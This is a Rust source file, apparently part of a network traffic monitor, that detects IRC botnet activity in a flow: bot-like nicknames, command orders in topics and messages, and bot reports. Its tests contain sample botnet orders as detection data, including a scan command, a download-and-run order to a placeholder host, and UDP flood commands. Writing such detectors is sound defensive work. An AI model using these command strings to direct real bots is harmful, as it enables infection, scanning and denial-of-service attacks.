//! IRC (RFC 2812) on any port: what the client says, never what people talk about.
//!
//! Lines of a server carry a prefix or verbs of their own, so that a wrong guess of the sides does
//! no harm. Topics and messages are compared with the grammar of bots, and only the kind of an order
//! is told.

mod nickname;
mod order;
mod report;

use ostium_event::{BotSign, Irc as Message, Service, What};

use crate::bytes::Text;
use crate::context::{Both, Context, Heads, Match, Next, Sink};
use crate::line::{self, Lines};
use crate::protocol::Protocol;

const VERBS: [&str; 13] = [
    "NICK", "USER", "JOIN", "PONG", "PRIVMSG", "NOTICE", "PASS", "CAP", "PART", "QUIT", "MODE",
    "WHO", "TOPIC",
];
/// What tells of a topic or a message (RFC 2812, sections 3.2.4, 3.3 and 5.1), and as what: the topic
/// that is told on joining is mostly that of who keeps the channel, and what else is said is anybody's.
const OF_SERVER: [(&[u8], &str, Sign); 4] = [
    (b"332", "TOPIC", |text| order::of_topic(text).map(BotSign::Topic)),
    (b"TOPIC", "TOPIC", |text| order::of_topic(text).map(BotSign::Order)),
    (b"PRIVMSG", "PRIVMSG", |text| order::of(text).map(BotSign::Order)),
    (b"NOTICE", "NOTICE", |text| order::of(text).map(BotSign::Order)),
];

type Sign = fn(&[u8]) -> Option<BotSign>;

/// IRC on one flow.
#[derive(Default)]
pub(crate) struct Irc(Box<Both<Lines>>);

// === impl Irc ===

impl Protocol for Irc {
    const SERVICE: Service = Service::Irc;

    fn recognise(heads: &Heads<'_>, _ctx: &Context) -> Match {
        let mut rest = heads.this;
        // A password alone could be any protocol's; a line that follows it decides.
        for _ in 0..3 {
            let Some(end) = memchr::memchr(b'\n', rest) else {
                return begun(rest);
            };
            let line = rest.get(..end).unwrap_or_default();
            // What rules a line out before its end is seen rules it out after, too.
            if begun(line) == Match::No {
                return Match::No;
            }
            match first_line(line.trim_ascii_end()) {
                Match::Maybe => rest = rest.get(end + 1..).unwrap_or_default(),
                decided => return decided,
            }
        }
        Match::No
    }

    fn stream(&mut self, ctx: &Context, bytes: &[u8], out: &mut Sink<'_>) -> Next {
        let mut rest = bytes;
        let lines = self.0.of_mut(ctx.side);
        while let Some(line) = lines.next(&mut rest) {
            if let Some((verb, sign)) = of_server(line) {
                out(What::Irc(Message { verb, channel: "", sign: Some(sign) }));
            }
            let Some((verb, argument)) = line::verb(line, &VERBS) else {
                continue;
            };
            let is_join = verb == "JOIN";
            let channel = argument.split(|b| *b == b' ').next().filter(|_| is_join);
            out(What::Irc(Message {
                verb,
                channel: Text::<200>::printable(channel.unwrap_or_default()).as_str(),
                sign: of_client(verb, argument),
            }));
        }
        Next::More
    }

    fn gap(&mut self, ctx: &Context, _missing: u64, _out: &mut Sink<'_>) -> Next {
        self.0.of_mut(ctx.side).clear();
        Next::More
    }

    fn heap_bytes(&self) -> usize {
        size_of::<Both<Lines>>() + self.0.sum(Lines::heap_bytes)
    }
}

/// The sign in a line of a client.
fn of_client(verb: &str, argument: &[u8]) -> Option<BotSign> {
    match verb {
        "NICK" => nickname::is_of_a_bot(first_word(argument)).then_some(BotSign::Nickname),
        "PRIVMSG" | "NOTICE" => report::is_of_a_bot(text(argument)).then_some(BotSign::Report),
        _ => None,
    }
}

/// The verb and the sign of a line of a server, which begins with who says it.
fn of_server(line: &[u8]) -> Option<(&'static str, BotSign)> {
    let rest = line.strip_prefix(b":")?;
    let (_, rest) = split(rest)?;
    let (word, rest) = split(rest)?;
    let mut all = OF_SERVER.into_iter();
    let (_, verb, sign) = all.find(|(known, ..)| known.eq_ignore_ascii_case(word))?;
    Some((verb, sign(text(rest))?))
}

/// The last parameter: what follows a colon, or the last word.
fn text(parameters: &[u8]) -> &[u8] {
    if let Some(text) = parameters.strip_prefix(b":") {
        return text;
    }
    let after = memchr::memmem::find(parameters, b" :").map(|at| at + 2);
    let last = || parameters.iter().rposition(|byte| *byte == b' ').map(|at| at + 1);
    after.or_else(last).and_then(|at| parameters.get(at..)).unwrap_or(parameters)
}

fn first_word(bytes: &[u8]) -> &[u8] {
    let word = bytes.split(|byte| *byte == b' ').next().unwrap_or_default();
    word.strip_prefix(b":").unwrap_or(word)
}

/// The first word and what follows it.
fn split(bytes: &[u8]) -> Option<(&[u8], &[u8])> {
    let end = memchr::memchr(b' ', bytes)?;
    let (word, rest) = bytes.split_at_checked(end)?;
    Some((word, rest.trim_ascii_start()))
}

/// Is a whole first line one of IRC? `Maybe` asks for the next line.
fn first_line(line: &[u8]) -> Match {
    let words = || line.split(|b| *b == b' ').filter(|word| !word.is_empty());
    let verb = words().next().unwrap_or_default();
    let second = words().nth(1).unwrap_or_default();
    let count = words().count();
    let is = |name: &[u8]| verb.eq_ignore_ascii_case(name);
    if is(b"NICK") {
        return Match::from_bool((2..=3).contains(&count) && second.len() <= 64);
    }
    if is(b"USER") {
        return Match::from_bool(count >= 5);
    }
    if is(b"CAP") {
        let known = [&b"LS"[..], b"REQ", b"END", b"LIST"];
        return Match::from_bool(known.iter().any(|sub| second.eq_ignore_ascii_case(sub)));
    }
    if is(b"PASS") && count == 2 {
        return Match::Maybe;
    }
    let notice = is(b"NOTICE") && matches!(second, b"AUTH" | b"*");
    let prefixed = verb.starts_with(b":") && verb.len() > 1 && second == b"NOTICE" && count >= 4;
    Match::from_bool(notice || prefixed)
}

/// May a begun first line become one of IRC?
fn begun(line: &[u8]) -> Match {
    let starts = [&b"NICK "[..], b"USER ", b"CAP ", b"PASS ", b"NOTICE ", b":"];
    let may = starts.iter().any(|start| {
        let common = start.len().min(line.len());
        start
            .get(..common)
            .unwrap_or_default()
            .eq_ignore_ascii_case(line.get(..common).unwrap_or_default())
    });
    let text = line.iter().all(|b| !b.is_ascii_control() || *b == b'\r');
    if may && text { Match::Maybe } else { Match::No }
}

#[cfg(test)]
mod tests {
    use crate::flow::tests::{Bench, more};

    #[test]
    fn a_bot_joins() {
        let mut bench = Bench::new(4444);
        more(bench.opener(b"PASS x\r\nNI"));
        more(bench.opener(b"CK bot|123\r\nUSER a b c :d\r\n"));
        more(bench.responder(b":srv 001 bot|123 :hi\r\nPING :77\r\n"));
        more(bench.opener(b"PONG :77\r\nJOIN #chan key\r\nPRIVMSG #chan :secret\r\n"));
        assert_eq!(
            bench.seen,
            ["irc PASS ", "irc NICK ", "irc USER ", "irc PONG ", "irc JOIN #chan", "irc PRIVMSG "]
        );
    }

    #[test]
    fn what_is_a_bots_is_told_by_its_kind() {
        let mut bench = Bench::new(6667);
        more(bench.opener(b"NICK [DEU|XP|012345]\r\nUSER a b c :d\r\nJOIN #x key\r\n"));
        more(bench.responder(b":srv 332 [DEU|XP|012345] #x :.advscan lsass 200 5 0 -r -s\r\n"));
        more(bench.responder(b":o!o@h TOPIC #x :hello\r\n:o!o@h PRIVMSG #x :hi all\r\n"));
        more(bench.responder(b":o!o@h TOPIC #x :hello|.http.update http://a.example/b c.exe\r\n"));
        more(bench.responder(b":o!o@h PRIVMSG #x :.udp 192.0.2.7 1000 4096 100 80\r\n"));
        more(bench.opener(b"PRIVMSG #x :[SCAN]: Port scan started: 10.0.0.0:445\r\n"));
        assert_eq!(
            bench.seen,
            [
                "irc NICK  Nickname",
                "irc USER ",
                "irc JOIN #x",
                "irc TOPIC  Topic(Scan)",
                "irc TOPIC  Order(Fetch)",
                "irc PRIVMSG  Order(Flood)",
                "irc PRIVMSG  Report"
            ]
        );
    }

    #[test]
    fn what_people_and_their_bots_say_is_none() {
        let mut bench = Bench::new(6667);
        more(bench.opener(b"NICK [AFK]bob\r\nUSER bob 0 * :bob\r\nJOIN #garden\r\n"));
        for said in [
            ":srv 332 [AFK]bob #garden :Welcome | !help for commands | !seen NICK",
            ":ann!a@h PRIVMSG #garden :!seen bob",
            ":ann!a@h PRIVMSG #garden :!op",
            ":relay!r@h PRIVMSG #garden :<carl> .udp 192.0.2.7 1000 4096 100 80",
            ":ChanServ!s@services. NOTICE [AFK]bob :Syntax: !update #channel",
            ":ann!a@h KICK #garden carl :.udp 192.0.2.7 1000 4096 100 80",
        ] {
            more(bench.responder(format!("{said}\r\n").as_bytes()));
        }
        more(bench.opener(b"PRIVMSG #garden :!weather 20851\r\nPRIVMSG #garden :[brb]: tea\r\n"));
        assert!(bench.seen.iter().all(|said| said.split(' ').count() == 3), "{:?}", bench.seen);
    }

    #[test]
    fn a_line_that_is_cut_is_taken_like_a_whole_one() {
        for line in [&b"PASS x\r\nNICK i\0SS x\r\n"[..], b" NICK x\r\n", b"NICK x\r\n"] {
            let mut whole = Bench::new(4444);
            whole.opener(line);
            for cut in 1..line.len() {
                let mut bench = Bench::new(4444);
                bench.opener(&line[..cut]);
                bench.opener(&line[cut..]);
                assert_eq!(bench.seen, whole.seen, "{line:?} cut at {cut}");
            }
        }
    }

    #[test]
    fn other_words_are_not_irc() {
        for line in
            [&b"NICKEL AND DIME\r\n"[..], b"USER bob\r\n", b"PASS a\r\nSTAT\r\n", b"NICK\r\n"]
        {
            let mut bench = Bench::new(4444);
            bench.opener(line);
            assert!(bench.seen.is_empty(), "{line:?}");
            assert_eq!(bench.service(), ostium_event::Service::Unknown, "{line:?}");
        }
    }
}
